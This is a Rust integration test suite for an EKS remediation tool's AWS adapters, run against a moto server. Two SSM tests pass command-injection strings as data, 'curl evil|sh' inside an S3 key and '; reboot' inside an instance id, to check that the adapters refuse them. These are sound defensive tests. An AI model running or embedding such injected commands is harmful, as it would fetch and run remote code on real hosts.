//! Every adapter against moto in server mode (real HTTP, real SDK serialization). Operations moto
//! lacks (EKS add-ons, CompleteLifecycleAction) come from the extension in `tests/moto_server.py`.

#![allow(clippy::expect_used, clippy::unwrap_used)] // tests fail by panicking

mod common;

use std::collections::BTreeSet;
use std::io::Read;

use common::*;
use eks_remedy_aws::ec2::Ec2;
use eks_remedy_aws::eks::Eks;
use eks_remedy_aws::lifecycle::AutoScaling;
use eks_remedy_aws::objects::{client as s3_client, Objects};
use eks_remedy_aws::publish::Publisher;
use eks_remedy_aws::queue::Queue;
use eks_remedy_aws::ssm::Ssm;
use eks_remedy_aws::store::Store;
use eks_remedy_pipeline::model::{
    ClusterKey, CollectionRequest, FoldDelta, FoldResult, FoldWrite, IncidentKind,
};
use eks_remedy_pipeline::ports::*;
use eks_remedy_pipeline::PortError;

fn window() -> chrono::DateTime<chrono::Utc> {
    chrono::DateTime::parse_from_rfc3339("2026-10-19T05:00:00Z")
        .unwrap()
        .into()
}

/// A collection request for node `i-1` of cluster `prod`.
fn request(incident_id: &str) -> CollectionRequest {
    CollectionRequest {
        incident_id: incident_id.into(),
        cluster: ClusterKey {
            account: "1".into(),
            region: "us-east-1".into(),
            cluster: "prod".into(),
        },
        instance_id: "i-1".into(),
        reason: "r".into(),
        window: window(),
    }
}

fn fold(id: &str, events: &[&str], claim: &[&str], max: u32) -> FoldWrite {
    let mut delta = FoldDelta::default();
    for e in events {
        delta.event_ids.push(e.to_string());
        *delta
            .apis
            .entry("AssignPrivateIpAddresses".into())
            .or_default() += 1;
        *delta.callers.entry("vpc-cni".into()).or_default() += 1;
    }
    delta.nodes = claim.iter().map(|s| s.to_string()).collect();
    FoldWrite {
        incident_id: id.into(),
        cluster: ClusterKey {
            account: "123456789012".into(),
            region: "us-east-1".into(),
            cluster: "prod".into(),
        },
        kind: IncidentKind::Throttling,
        window: window(),
        delta,
        claim: claim.iter().map(|s| s.to_string()).collect(),
        max_claims: max,
        expires_at: chrono::Utc::now() + chrono::Duration::days(14),
    }
}

#[tokio::test]
async fn ec2_finds_nodes_by_ip_and_id_and_caches_type_limits() {
    let sdk = sdk().await;
    let (id, ip) = node(&sdk, Some("prod-ec2"), "m5.large").await;
    let ec2 = Ec2::new(aws_sdk_ec2::Client::new(&sdk));
    let found = ec2.instance_by_ip(&ip).await.unwrap().expect("by ip");
    assert_eq!(
        (found.instance_id.as_str(), found.cluster.as_deref()),
        (id.as_str(), Some("prod-ec2"))
    );
    assert_eq!(found.asg.as_deref(), Some("eks-prod-ec2-ng"));
    assert_eq!(ec2.instance_by_ip("10.255.255.254").await.unwrap(), None);
    assert!(
        ec2.instances(&["i-0000000000000dead".into()])
            .await
            .unwrap()
            .is_empty(),
        "unknown instance is absent, not an error"
    );
    assert_eq!(
        ec2.type_limits("m5.large").await.unwrap(),
        Some((3, 10)),
        "moto's real NetworkInfo"
    );
    let calls = ec2.calls();
    assert_eq!(ec2.type_limits("m5.large").await.unwrap(), Some((3, 10)));
    assert_eq!(
        ec2.vcpus("m5.large").await.unwrap(),
        Some(2),
        "moto's VCpuInfo"
    );
    assert_eq!(
        ec2.calls(),
        calls,
        "DescribeInstanceTypes is cached, limits and vCPUs alike"
    );
    assert_eq!(ec2.vcpus("m5.4xlarge").await.unwrap(), Some(16));
}

#[tokio::test]
async fn ec2_volume_reports_attachment_and_performance() {
    let sdk = sdk().await;
    let (id, _) = node(&sdk, Some("prod-vol"), "m5.large").await;
    let c = aws_sdk_ec2::Client::new(&sdk);
    let v = c
        .create_volume()
        .availability_zone("us-east-1a")
        .size(20)
        .volume_type(aws_sdk_ec2::types::VolumeType::Gp3)
        .iops(3000)
        .throughput(125)
        .send()
        .await
        .unwrap();
    let vid = v.volume_id().unwrap().to_string();
    c.attach_volume()
        .volume_id(&vid)
        .instance_id(&id)
        .device("/dev/xvdb")
        .send()
        .await
        .unwrap();
    let vol = Ec2::new(c).volume(&vid).await.unwrap().expect("volume");
    assert_eq!(vol.instance_id.as_deref(), Some(id.as_str()));
    assert_eq!(
        (vol.volume_type.as_deref(), vol.size_gib, vol.iops),
        (Some("gp3"), Some(20), Some(3000))
    );
}

#[tokio::test]
async fn eks_describes_cluster_addon_and_default_version() {
    let sdk = sdk().await;
    let c = aws_sdk_eks::Client::new(&sdk);
    let name = unique("prod");
    eks_cluster(&sdk, &name, true).await;
    let eks = Eks::new(c.clone());
    let info = eks.describe(&name).await.unwrap();
    assert_eq!(info.version.as_deref(), Some("1.30"));
    assert!(info.endpoint.is_some());
    assert!(
        info.self_managed_cni,
        "no managed add-on: DescribeAddon says ResourceNotFoundException"
    );
    vpc_cni_addon(&sdk, &name, None).await;
    let info = eks.describe(&name).await.unwrap();
    assert_eq!(
        info.vpc_cni_addon_version.as_deref(),
        Some("v1.18.3-eksbuild.1")
    );
    assert_eq!(
        info.vpc_cni_default_version.as_deref(),
        Some("v1.19.0-eksbuild.1")
    );
    let issuer = c
        .describe_cluster()
        .name(&name)
        .send()
        .await
        .unwrap()
        .cluster()
        .unwrap()
        .identity()
        .unwrap()
        .oidc()
        .unwrap()
        .issuer()
        .unwrap()
        .to_string();
    let arn = format!(
        "arn:aws:iam::123456789012:oidc-provider/{}",
        issuer.trim_start_matches("https://")
    );
    assert_eq!(
        eks.cluster_for_oidc(&arn).await.unwrap().as_deref(),
        Some(name.as_str())
    );
    assert!(matches!(
        eks.describe("no-such-cluster").await,
        Err(PortError::NotFound { .. })
    ));
}

#[tokio::test]
async fn eks_reads_a_node_groups_instance_types_and_capacity() {
    // Its own Region: the OIDC test above maps moto's one issuer to the only cluster it sees.
    let sdk = sdk()
        .await
        .to_builder()
        .region(aws_config::Region::new("me-south-1"))
        .build();
    let c = aws_sdk_eks::Client::new(&sdk);
    let name = unique("prod");
    eks_cluster(&sdk, &name, true).await;
    c.create_nodegroup()
        .cluster_name(&name)
        .nodegroup_name("workers")
        .node_role("arn:aws:iam::123456789012:role/node")
        .subnets("subnet-0a1b2c3d4e5f60718")
        .instance_types("m5.xlarge")
        .instance_types("m5a.xlarge")
        .capacity_type(aws_sdk_eks::types::CapacityTypes::Spot)
        .scaling_config(
            aws_sdk_eks::types::NodegroupScalingConfig::builder()
                .min_size(2)
                .desired_size(60)
                .max_size(60)
                .build(),
        )
        .send()
        .await
        .unwrap();
    let facts = Eks::new(c).nodegroup(&name, "workers").await.unwrap();
    assert_eq!(facts.instance_types, ["m5.xlarge", "m5a.xlarge"]);
    assert!(facts.spot);
    assert!(facts.health.is_empty());
    // What tells the scale-up watcher the group cannot grow.
    assert_eq!(
        (facts.min_size, facts.desired_size, facts.max_size),
        (Some(2), Some(60), Some(60))
    );
}

#[tokio::test]
async fn store_marks_an_incident_opened_once() {
    let sdk = sdk().await;
    let store = Store::new(aws_sdk_dynamodb::Client::new(&sdk), table(&sdk).await);
    let expires = chrono::Utc::now().timestamp() + 3600;
    assert!(store
        .mark_opened("prod:throttling:20261019T0500", expires)
        .await
        .unwrap());
    assert!(!store
        .mark_opened("prod:throttling:20261019T0500", expires)
        .await
        .unwrap());
    assert!(store
        .mark_opened("prod:scale-up:20261019T0500", expires)
        .await
        .unwrap());
}

#[tokio::test]
async fn store_folds_once_replays_nothing_and_keeps_the_budget() {
    let sdk = sdk().await;
    let store = Store::new(aws_sdk_dynamodb::Client::new(&sdk), table(&sdk).await);
    let w = fold(
        "prod:throttling:20261019T0500",
        &["e1", "e2"],
        &["i-1", "i-2"],
        3,
    );
    assert_eq!(
        store.fold(&w).await.unwrap(),
        FoldResult::Written {
            claimed: BTreeSet::from(["i-1".into(), "i-2".into()])
        }
    );
    match store
        .fold(&fold(
            "prod:throttling:20261019T0500",
            &["e2", "e3"],
            &[],
            3,
        ))
        .await
        .unwrap()
    {
        FoldResult::Replayed { seen } => assert_eq!(seen, BTreeSet::from(["e2".to_string()])),
        other => panic!("expected a replay, got {other:?}"),
    }
    assert_eq!(
        store
            .fold(&fold(
                "prod:throttling:20261019T0500",
                &["e3"],
                &["i-3", "i-4"],
                3
            ))
            .await
            .unwrap(),
        FoldResult::BudgetSpent
    );
    assert!(matches!(
        store
            .fold(&fold("prod:throttling:20261019T0500", &["e3"], &["i-3"], 3))
            .await
            .unwrap(),
        FoldResult::Written { .. }
    ));
    let item = store
        .incident("prod:throttling:20261019T0500")
        .await
        .unwrap()
        .expect("incident");
    assert_eq!(item["events"], 3, "the replayed e2 was not counted twice");
    assert_eq!(item["api:AssignPrivateIpAddresses"], 3);
    assert_eq!(item["claimed"].as_array().unwrap().len(), 3);
    assert_eq!(item["kind"], "throttling");
}

#[tokio::test]
async fn store_locks_nodes_records_commands_notes_and_findings() {
    let sdk = sdk().await;
    let store = Store::new(aws_sdk_dynamodb::Client::new(&sdk), table(&sdk).await);
    let exp = (chrono::Utc::now() + chrono::Duration::days(1)).timestamp();
    assert_eq!(
        store
            .lock_node("i-1", "20261019T0500", "inc-a", exp)
            .await
            .unwrap(),
        NodeLock::Acquired
    );
    assert_eq!(
        store
            .lock_node("i-1", "20261019T0500", "inc-a", exp)
            .await
            .unwrap(),
        NodeLock::Ours { command_id: None }
    );
    assert_eq!(
        store
            .lock_node("i-1", "20261019T0500", "inc-b", exp)
            .await
            .unwrap(),
        NodeLock::Taken
    );
    let req = request("inc-a");
    store.record_command("cmd-1", &req, exp).await.unwrap();
    assert_eq!(
        store
            .lock_node("i-1", "20261019T0500", "inc-a", exp)
            .await
            .unwrap(),
        NodeLock::Ours {
            command_id: Some("cmd-1".into())
        }
    );
    assert_eq!(store.command("cmd-1").await.unwrap(), Some(req));
    assert_eq!(store.command("cmd-unknown").await.unwrap(), None);
    // A replayed status event notes the same thing again: kept once.
    for note in [
        "collection-failed: TimedOut",
        "collection-failed: TimedOut",
        "second",
    ] {
        store.note("inc-a", note).await.unwrap();
    }
    store
        .record_findings(
            "inc-a",
            "i-1",
            &["ebs-io-throttling".into()],
            "bundles/x/report.json",
        )
        .await
        .unwrap();
    let item = store.incident("inc-a").await.unwrap().unwrap();
    assert_eq!(
        item["notes"],
        serde_json::json!(["collection-failed: TimedOut", "second"])
    );
    assert_eq!(item["findings:i-1"][0], "ebs-io-throttling");
    // An expired lock (TTL passed, not yet deleted by DynamoDB) no longer holds the node.
    assert_eq!(
        store.lock_node("i-2", "w", "inc-a", 1).await.unwrap(),
        NodeLock::Acquired
    );
    assert_eq!(
        store.lock_node("i-2", "w", "inc-b", exp).await.unwrap(),
        NodeLock::Acquired,
        "expired item treated as absent"
    );
}

#[tokio::test]
async fn queue_delivers_requests_with_delay() {
    let sdk = sdk().await;
    let c = aws_sdk_sqs::Client::new(&sdk);
    let (url, _) = queue(&sdk, "collect").await;
    let req = request("inc");
    Queue::new(c.clone(), &url).enqueue(&req, 0).await.unwrap();
    let got = c
        .receive_message()
        .queue_url(&url)
        .wait_time_seconds(1)
        .send()
        .await
        .unwrap();
    let body: CollectionRequest = serde_json::from_str(got.messages()[0].body().unwrap()).unwrap();
    assert_eq!(body, req);
}

/// Run Command sends the stack's collection document (no longer `AWS-RunShellScript` with a script
/// of the adapter's making: this test replaced the one that asserted that script, on purpose) with
/// a pre-signed PUT URL for exactly the bundle's key. The URL writes that key and no other, nor
/// with a longer expiry: the moto extension verifies pre-signed signatures as S3 does.
#[tokio::test(flavor = "multi_thread")]
async fn ssm_sends_the_collection_document_with_an_upload_url_for_one_key() {
    let sdk = sdk().await;
    let (id, _) = node(&sdk, Some("prod-ssm"), "m5.large").await;
    let s3 = s3_client(&sdk);
    let bucket = unique("bundles");
    s3.create_bucket().bucket(&bucket).send().await.unwrap();
    let c = aws_sdk_ssm::Client::new(&sdk);
    let document = "eks-remedy-CollectionDocument-Xy12AbCd34Ef";
    let ssm = Ssm::run_command(c.clone(), s3.clone(), document);
    let dir = format!("bundles/prod-ssm/{id}/prod-ssm:throttling:20261019T0500/");
    let key = format!("{dir}eks_{id}_2026-10-19_0512-UTC.tar.gz");
    let cmd = ssm.collect(&id, &bucket, &key).await.unwrap();

    let listed = c.list_commands().command_id(&cmd).send().await.unwrap();
    let command = &listed.commands()[0];
    assert_eq!(command.document_name(), Some(document));
    let params = command.parameters().unwrap();
    assert_eq!(
        params.keys().map(String::as_str).collect::<BTreeSet<_>>(),
        BTreeSet::from(["ExecutionTimeout", "UploadUrl"])
    );
    assert_eq!(params["ExecutionTimeout"], ["1800".to_string()]);
    let url = params["UploadUrl"][0].clone();
    assert!(
        url.contains(&format!(
            "X-Amz-Expires={}",
            eks_remedy_aws::ssm::UPLOAD_URL_SECONDS
        )),
        "{url}"
    );
    assert!(
        !command.comment().unwrap_or_default().contains("X-Amz"),
        "the URL is not logged"
    );
    let invocation = c
        .get_command_invocation()
        .command_id(&cmd)
        .instance_id(&id)
        .send()
        .await
        .unwrap();
    assert_eq!(invocation.document_name(), Some(document));

    // The URL writes exactly its key...
    assert_eq!(http("PUT", &url, b"bundle").0, 200);
    let stored = s3
        .get_object()
        .bucket(&bucket)
        .key(&key)
        .send()
        .await
        .unwrap();
    assert_eq!(
        stored.body.collect().await.unwrap().into_bytes().as_ref(),
        b"bundle"
    );
    // ...and nothing else: another node's key, a forged report, a longer life, a read.
    let name = key.rsplit('/').next().unwrap();
    for (what, forged) in [
        (
            "another key",
            url.replacen(&format!("eks_{id}_"), "eks_i-0ffffffffffffffff_", 1),
        ),
        ("a report", url.replacen(name, "report.json", 1)),
        (
            "a longer expiry",
            url.replacen("X-Amz-Expires=2400", "X-Amz-Expires=604800", 1),
        ),
    ] {
        assert_ne!(forged, url, "{what}: not forged");
        let (status, body) = http("PUT", &forged, b"forged");
        assert_eq!(status, 403, "{what}: {body}");
    }
    assert_eq!(http("GET", &url, b"").0, 403, "a PUT URL does not read");
    let keys = Objects::new(s3.clone())
        .list(&bucket, "", 10)
        .await
        .unwrap();
    assert_eq!(keys, [key], "nothing but the one key was written");

    // Unsafe names are refused before anything is signed or sent.
    let bad = ssm
        .collect(&id, &bucket, "bundles/x; curl evil|sh/k.tar.gz")
        .await;
    assert!(matches!(bad, Err(PortError::Refused { .. })), "{bad:?}");
}

/// The automation method on moto (StartAutomationExecution comes from the moto extension): the
/// runbook gets the instance and the bucket, and the role when one is configured.
#[tokio::test]
async fn ssm_automation_starts_the_runbook_with_instance_bucket_and_role() {
    let sdk = sdk().await;
    let (id, _) = node(&sdk, Some("prod-auto"), "m5.large").await;
    let bucket = unique("bundles");
    s3_client(&sdk)
        .create_bucket()
        .bucket(&bucket)
        .send()
        .await
        .unwrap();
    let c = aws_sdk_ssm::Client::new(&sdk);
    let role = "arn:aws:iam::123456789012:role/eks-remedy-AutomationRole-1";
    let ssm = Ssm::automation(c.clone(), Some(role.into()));
    let execution = ssm
        .collect(&id, &bucket, "bundles/prod-auto/i-1/inc_1/")
        .await
        .unwrap();
    let run = automation(&sdk, &execution).await;
    assert_eq!(
        run.document_name(),
        Some("AWSSupport-CollectEKSInstanceLogs")
    );
    let params = run.parameters().unwrap();
    assert_eq!(params["EKSInstanceId"], std::slice::from_ref(&id));
    assert_eq!(params["LogDestination"], std::slice::from_ref(&bucket));
    assert_eq!(params["AutomationAssumeRole"], [role.to_string()]);
    assert_eq!(
        run.automation_execution_status().map(|s| s.as_str()),
        Some("Success")
    );
    // Without a role the parameter is left out (the runbook then runs as the caller).
    let plain = Ssm::automation(c.clone(), None);
    let execution = plain.collect(&id, &bucket, "bundles/x/").await.unwrap();
    let run = automation(&sdk, &execution).await;
    let params = run.parameters().unwrap();
    assert!(!params.contains_key("AutomationAssumeRole"), "{params:?}");
    // The runbook starts for any id and fails on its own when the instance is unknown.
    let gone = plain
        .collect("i-0000000000000dead", &bucket, "bundles/x/")
        .await
        .unwrap();
    let run = automation(&sdk, &gone).await;
    assert_eq!(
        run.automation_execution_status().map(|s| s.as_str()),
        Some("Failed")
    );
    assert!(run
        .failure_message()
        .unwrap_or_default()
        .contains("i-0000000000000dead"));
    let bad = plain.collect("i-1; reboot", &bucket, "bundles/x/").await;
    assert!(matches!(bad, Err(PortError::Refused { .. })), "{bad:?}");
}

#[tokio::test]
async fn lifecycle_actions_are_completed_with_continue() {
    let sdk = sdk().await;
    let asg = aws_sdk_autoscaling::Client::new(&sdk);
    let group = auto_scaling_group(&sdk, "eks-ng", "m5.large", &[]).await;
    let token = "87654321-4321-4321-4321-210987654321";
    AutoScaling::new(asg.clone())
        .proceed(&group, "eks-remedy-launch", token, "i-0abc12345def67891")
        .await
        .unwrap();
    let calls: serde_json::Value = reqwest_free_get(&format!(
        "{}/moto-api/eks-remedy/lifecycle-actions",
        moto().endpoint
    ));
    assert!(calls
        .as_array()
        .unwrap()
        .iter()
        .any(|c| c["group"] == group.as_str() && c["result"] == "CONTINUE" && c["token"] == token));
    assert!(AutoScaling::new(asg)
        .proceed("no-such-group", "h", token, "i-1")
        .await
        .is_err());
}

/// A GET of JSON over plain std TCP (no HTTP client crate needed for one loopback call).
fn reqwest_free_get(url: &str) -> serde_json::Value {
    serde_json::from_str(&http("GET", url, b"").1).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn s3_objects_stream_and_missing_keys_are_not_found() {
    let sdk = sdk().await;
    let c = s3_client(&sdk);
    let bucket = unique("bundles");
    c.create_bucket().bucket(&bucket).send().await.unwrap();
    let objects = Objects::new(c);
    let body: Vec<u8> = (0..3_000_000u32).map(|i| (i % 251) as u8).collect();
    objects
        .put(
            &bucket,
            "bundles/a.tar.gz",
            body.clone(),
            "application/gzip",
        )
        .await
        .unwrap();
    let mut reader = objects.open(&bucket, "bundles/a.tar.gz").await.unwrap();
    let read = tokio::task::spawn_blocking(move || {
        let mut v = Vec::new();
        reader.read_to_end(&mut v).unwrap();
        v
    })
    .await
    .unwrap();
    assert_eq!(read, body);
    assert!(matches!(
        objects.open(&bucket, "nope").await,
        Err(PortError::NotFound { .. })
    ));
}

/// Listing pages through S3 in key order up to a bound; relocation copies (keys with `:`, which
/// CopySource needs percent-encoded) and then deletes the original.
#[tokio::test]
async fn s3_objects_list_in_key_order_and_relocate() {
    let sdk = sdk().await;
    let c = s3_client(&sdk);
    let bucket = unique("bundles");
    c.create_bucket().bucket(&bucket).send().await.unwrap();
    let objects = Objects::new(c);
    for day in ["19", "17", "18"] {
        let key = format!("eks_i-1_2026-10-{day}_0525-UTC_0.7.9.tar.gz");
        objects
            .put(&bucket, &key, day.as_bytes().to_vec(), "application/gzip")
            .await
            .unwrap();
    }
    objects
        .put(&bucket, "eks_i-2_x.tar.gz", vec![], "application/gzip")
        .await
        .unwrap();
    let listed = objects.list(&bucket, "eks_i-1_", 100).await.unwrap();
    assert_eq!(
        listed,
        [
            "eks_i-1_2026-10-17_0525-UTC_0.7.9.tar.gz",
            "eks_i-1_2026-10-18_0525-UTC_0.7.9.tar.gz",
            "eks_i-1_2026-10-19_0525-UTC_0.7.9.tar.gz"
        ]
    );
    assert_eq!(objects.list(&bucket, "eks_i-1_", 2).await.unwrap().len(), 2);
    let to = "bundles/prod/i-1/prod:manual:20261019T0500/eks_i-1_2026-10-19_0525-UTC_0.7.9.tar.gz";
    objects
        .relocate(&bucket, "eks_i-1_2026-10-19_0525-UTC_0.7.9.tar.gz", to)
        .await
        .unwrap();
    assert_eq!(
        objects.list(&bucket, "eks_i-1_", 100).await.unwrap().len(),
        2
    );
    assert_eq!(
        objects.list(&bucket, "bundles/prod/", 100).await.unwrap(),
        [to]
    );
    let moved = objects.open(&bucket, to).await.unwrap();
    let body = tokio::task::spawn_blocking(move || {
        let mut v = Vec::new();
        let mut r = moved;
        r.read_to_end(&mut v).unwrap();
        v
    })
    .await
    .unwrap();
    assert_eq!(body, b"19");
    let gone = objects
        .relocate(&bucket, "eks_i-1_nope.tar.gz", "bundles/x")
        .await;
    assert!(matches!(gone, Err(PortError::NotFound { .. })), "{gone:?}");
}

#[tokio::test]
async fn findings_events_reach_the_bus() {
    let sdk = sdk().await;
    let ev = aws_sdk_eventbridge::Client::new(&sdk);
    let sqs = aws_sdk_sqs::Client::new(&sdk);
    let bus = unique("eks-remedy");
    ev.create_event_bus().name(&bus).send().await.unwrap();
    let url = rule_to_queue(&sdk, &bus, "findings", r#"{"source":["eks-remedy"]}"#).await;
    Publisher::new(ev, &bus)
        .publish(
            "eks-remedy findings",
            &serde_json::json!({"incident_id": "inc"}),
        )
        .await
        .unwrap();
    let got = sqs
        .receive_message()
        .queue_url(&url)
        .wait_time_seconds(1)
        .send()
        .await
        .unwrap();
    let msg: serde_json::Value = serde_json::from_str(got.messages()[0].body().unwrap()).unwrap();
    assert_eq!(msg["detail"]["incident_id"], "inc");
    assert_eq!(msg["detail-type"], "eks-remedy findings");
}
